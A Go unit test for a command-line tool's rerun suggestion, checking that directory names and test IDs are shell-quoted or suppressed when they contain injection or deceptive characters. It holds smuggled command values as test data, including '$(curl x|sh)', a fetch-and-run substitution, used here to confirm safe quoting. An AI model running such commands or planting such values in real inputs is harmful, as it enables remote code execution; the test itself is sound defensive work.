package cli

import (
	"testing"

	"hookwatch/suites"
)

// TestRerunOffersNoMoreThanIsShown checks that a command that would be displayed differently is
// not offered.
func TestRerunOffersNoMoreThanIsShown(t *testing.T) {
	t.Parallel()
	p := load(t, twoSuites(t))
	for dir, want := range map[string]string{
		"a b":      "hookwatch -C 'a b' run M1",
		"$(x)":     "hookwatch -C '$(x)' run M1",
		"-x":       "hookwatch -C ./-x run M1",
		"a!b":      "hookwatch -C 'a!b' run M1",
		"a\x1b[2J": "",
		"a\nb":     "",
		"a\u202eb": "",
		"a\xff":    "",
		"\u3164":   "",
	} {
		if got := (program{Dir: dir}).About(p, "run")(suites.Key{Suite: "more", ID: "M1"}); got != want {
			t.Errorf("in %q: %q is offered, want %q", dir, got, want)
		}
	}
	if got := (program{}).About(p, "run")(suites.Key{Suite: "s", ID: "$(curl x|sh)"}); got != "hookwatch run '$(curl x|sh)'" {
		t.Errorf("a hostile ID: %q is offered", got)
	}
}
